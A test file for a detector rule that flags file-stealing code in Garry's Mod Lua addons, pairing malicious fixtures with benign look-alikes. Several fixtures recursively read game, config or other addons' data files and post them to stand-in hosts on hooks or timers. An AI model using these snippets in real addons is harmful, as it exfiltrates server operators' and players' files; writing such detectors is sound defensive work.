// Valid and invalid cases of the `file_stealer` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './file_stealer.js';
import { check, RANK, worst } from './ruleTesting.js';

const walk = [
  'local function Walk(dir, out, depth)',
  '  if depth > 4 then return end',
  '  local files, dirs = file.Find(dir .. "*", "DATA")',
  '  for _, f in ipairs(files or {}) do out[#out + 1] = dir .. f end',
  '  for _, d in ipairs(dirs or {}) do Walk(dir .. d .. "/", out, depth + 1) end',
  'end',
];

describe('file_stealer', () => {
  it('files read and uploaded', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local function walk(d)\n local fs, ds = file.Find(d .. "*", "GAME")\n for _, f in ipairs(fs) do http.Post("https://a.invalid/up", {name = f, data = file.Read(d .. f, "GAME")}) end\nend\nwalk("lua/")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('FastDL registration', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local fs = file.Find("materials/x/*", "GAME")\nfor _, f in ipairs(fs) do resource.AddFile("materials/x/" .. f) end',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('the whole of data/ read from its root and posted, on a client', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local function gather(dir, out)',
        ' local fs, ds = file.Find(dir .. "*", "DATA")',
        ' for _, f in ipairs(fs) do out[dir .. f] = file.Read(dir .. f, "DATA") end',
        ' for _, d in ipairs(ds) do gather(dir .. d .. "/", out) end',
        ' return out',
        'end',
        'hook.Add("InitPostEntity", "sync", function() http.Post("https://cloud.invalid/u", gather("", {})) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('its own settings folder in data/ read and uploaded for a cloud backup', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'concommand.Add("myaddon_backup", function(ply)',
        ' if IsValid(ply) then return end',
        ' local out = {}',
        ' for _, f in ipairs(file.Find("myaddon/*.txt", "DATA")) do out[f] = file.Read("myaddon/" .. f, "DATA") end',
        ' http.Post("https://backup.invalid/put", out)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('files gathered into records by a recursive walk, uploaded as JSON', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local out = {}',
        'local function grab(dir)',
        '  local files, dirs = file.Find(dir .. "*", "GAME")',
        '  for _, f in ipairs(files) do out[#out + 1] = { dir .. f, file.Read(dir .. f, "GAME") } end',
        '  for _, d in ipairs(dirs) do grab(dir .. d .. "/") end',
        'end',
        'timer.Simple(60, function() grab("lua/") http.Post("https://x.invalid/u", { d = util.TableToJSON(out) }) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("the addon's own settings, listed from its folder, posted as JSON (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local names = file.Find("myaddon/*.json", "DATA")',
        'local settings = { version = "1.2", count = #names, map = game.GetMap() }',
        'timer.Simple(60, function() http.Post("https://updates.invalid/check", { s = util.TableToJSON(settings) }) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("the game's files read with file.AsyncRead and uploaded", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_report.lua': [
        'local function put(name, data)',
        ' HTTP({ url = "https://upload.example.invalid/" .. name, method = "PUT", body = util.Base64Encode(data) })',
        'end',
        'timer.Create("report", 1800, 0, function()',
        ' for _, f in ipairs(file.Find("cfg/*.cfg", "GAME") or {}) do',
        '  file.AsyncRead("cfg/" .. f, "GAME", function(name, _, status, data)',
        '   if status == FSASYNC_OK and data then put(name, data) end',
        '  end)',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("the addon's own data file read with file.AsyncRead", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_stats.lua': [
        'Stats = Stats or {}',
        'file.AsyncRead("stats/totals.json", "DATA", function(name, _, status, data)',
        ' if status == FSASYNC_OK and data then Stats.Totals = util.JSONToTable(data) or {} end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("other addons' saved files walked and uploaded from players' clients, unasked", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_thumbs.lua': [
        ...walk,
        'local function Sync(list)',
        '  local i = 0',
        '  timer.Create("thumbs", 2, 0, function()',
        '    i = i + 1',
        '    local path = list[i]',
        '    if not path then return end',
        '    local data = file.Read(path, "DATA")',
        '    http.Post("https://thumbs.invalid/up", { sid = LocalPlayer():SteamID64(), path = path, blob = util.Base64Encode(data or "") })',
        '  end)',
        'end',
        'hook.Add("InitPostEntity", "thumbs", function()',
        '  local list = {}',
        '  for _, root in ipairs({ "advdupe2/", "expression2/" }) do Walk(root, list, 0) end',
        '  Sync(list)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toHaveLength(1);
    expect(findings[0]!.severity).toBe('high');
  });
  it("another addon's data folder walked and uploaded by the server on a timer", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_backup.lua': [
        ...walk,
        'timer.Create("backup", 600, 0, function()',
        '  local list = {}',
        '  Walk("ulib/", list, 0)',
        '  for _, path in ipairs(list) do',
        '    http.Post("https://backup.invalid/put", { path = path, body = file.Read(path, "DATA") })',
        '  end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("a dupe the player picks, shared on a click, and the addon's own saves synced (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_share.lua': [
        'local list = vgui.Create("DListView")',
        'local files = file.Find("advdupe2/*", "DATA")',
        'for _, f in ipairs(files) do list:AddLine(f) end',
        'local b = vgui.Create("DButton")',
        'b.DoClick = function()',
        '  local line = list:GetSelectedLine()',
        '  local data = file.Read("advdupe2/" .. files[line], "DATA")',
        '  http.Post("https://share.invalid/up", { dupe = util.Base64Encode(data or "") })',
        'end',
      ].join('\n'),
      'lua/autorun/client/cl_sync.lua': [
        ...walk,
        'file.CreateDir("mynotes")',
        'file.Write("mynotes/readme.txt", "notes")',
        'timer.Create("sync", 60, 0, function()',
        '  local list = {}',
        '  Walk("mynotes/", list, 0)',
        '  for _, path in ipairs(list) do http.Post("https://notes.invalid/sync", { path = path, text = file.Read(path, "DATA") }) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('its own folder found among the addons, and its API key, one data file, posted to the service it is for (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_find.lua': [
        'local _, dirs = file.Find("addons/*", "MOD")',
        'for _, d in ipairs(dirs) do if file.Exists("addons/" .. d .. "/lua/mine.lua", "MOD") then MyAddon.dir = d end end',
      ].join('\n'),
      'lua/autorun/server/sv_translate.lua': [
        'local key = file.Read("translate_key.txt")',
        'hook.Add("PlayerSay", "tr", function(ply, text)',
        '  http.Post("https://translation.example.invalid/v2", { key = key, q = text }, function(body) end)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('the game listed, its files staged into one data file, which is read back and posted', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local fs = file.Find("cfg/*", "GAME")',
        'for _, f in ipairs(fs) do file.Append("cache.txt", file.Read("cfg/" .. f, "GAME")) end',
        'timer.Simple(60, function() http.Post("https://a.invalid/up", { d = file.Read("cache.txt") }) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
});
